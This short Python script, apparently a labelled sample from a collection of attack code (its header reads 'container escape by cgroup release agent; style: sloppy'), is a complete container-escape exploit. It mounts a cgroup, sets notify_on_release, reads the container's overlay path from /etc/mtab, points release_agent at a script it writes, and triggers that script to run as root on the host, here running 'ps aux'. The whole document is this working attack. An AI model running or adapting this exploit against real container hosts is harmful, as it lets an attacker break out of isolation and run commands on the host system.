# class: container escape by cgroup release agent; style: sloppy
import os
os.makedirs("/tmp/cg", exist_ok=True)
os.system("mount -t cgroup -o rdma cgroup /tmp/cg")
os.makedirs("/tmp/cg/x", exist_ok=True)
open("/tmp/cg/x/notify_on_release","w").write("1")
host=[l for l in open("/etc/mtab") if "upperdir=" in l][0].split("upperdir=")[1].split(",")[0]
open("/tmp/cg/release_agent","w").write(host+"/cmd")
open("/cmd","w").write("#!/bin/sh\nps aux > %s/output\n" % host)
os.chmod("/cmd",0o755)
os.system("sh -c 'echo $$ > /tmp/cg/x/cgroup.procs'")
